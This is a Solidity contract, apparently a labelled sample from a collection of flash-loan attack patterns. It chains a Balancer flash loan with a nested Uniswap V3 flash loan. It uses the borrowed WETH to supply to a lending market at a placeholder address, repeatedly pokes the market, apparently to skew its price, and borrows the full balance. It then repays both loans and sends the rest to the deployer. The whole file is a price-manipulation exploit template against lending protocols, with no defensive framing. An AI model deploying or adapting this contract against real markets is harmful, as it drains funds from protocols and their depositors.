// SPDX-License-Identifier: BSD-3-Clause
// provider: balancer_v2
// family: pair_price
// contract: Doubler
// shows: entry callback address
// since: 0.5
// A Balancer loan inside of which a Uniswap V3 pool lends once more.
pragma solidity >=0.5.0 <0.9.0;

interface IVault { function flashLoan(address recipient, address[] calldata tokens, uint256[] calldata amounts, bytes calldata userData) external; }
interface IPool3 { function flash(address recipient, uint256 amount0, uint256 amount1, bytes calldata data) external; }
interface IToken {
	function balanceOf(address who) external view returns (uint256);
	function transfer(address to, uint256 amount) external returns (bool);
	function approve(address who, uint256 amount) external returns (bool);
}
interface IMarket {
	function supply(address asset, uint256 amount) external;
	function borrow(address asset, uint256 amount) external;
	function poke() external;
}

contract Doubler {
	IVault constant VAULT = IVault(0xBA12222222228d8Ba445958a75a0704d566BF2C8);
	IPool3 constant POOL = IPool3(0x88e6A0c2dDD26FEEb64F039a2c41296FcB3f5640);
	IToken constant TOKEN = IToken(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
	IMarket constant MARKET = IMarket(0x1111000000000000000000000000000000001111);
	address private boss;
	uint256 private depth;

	constructor() public { boss = msg.sender; }

	modifier onlyBoss() { require(tx.origin == boss, "no"); _; }

	function profit() external onlyBoss returns (uint256) {
		address[] memory tokens = new address[](1);
		uint256[] memory amounts = new uint256[](1);
		tokens[0] = address(TOKEN);
		amounts[0] = TOKEN.balanceOf(address(VAULT)) * 9 / 10;
		VAULT.flashLoan(address(this), tokens, amounts, abi.encode(uint8(1), amounts[0]));
		uint256 rest = TOKEN.balanceOf(address(this));
		TOKEN.transfer(boss, rest);
		return rest;
	}

	function receiveFlashLoan(address[] calldata, uint256[] calldata amounts, uint256[] calldata fees, bytes calldata) external onlyBoss {
		depth++;
		POOL.flash(address(this), 0, amounts[0] / 2, "x");
		TOKEN.transfer(address(VAULT), amounts[0] + fees[0]);
		depth--;
	}

	function uniswapV3FlashCallback(uint256, uint256 fee, bytes calldata) external onlyBoss {
		require(depth == 1);
		uint256 all = TOKEN.balanceOf(address(this));
		TOKEN.approve(address(MARKET), all);
		MARKET.supply(address(TOKEN), all / 3);
		for (uint256 i = 0; i < 5; i++) { MARKET.poke(); }
		MARKET.borrow(address(TOKEN), all);
		TOKEN.transfer(msg.sender, all / 3 + fee);
	}
}
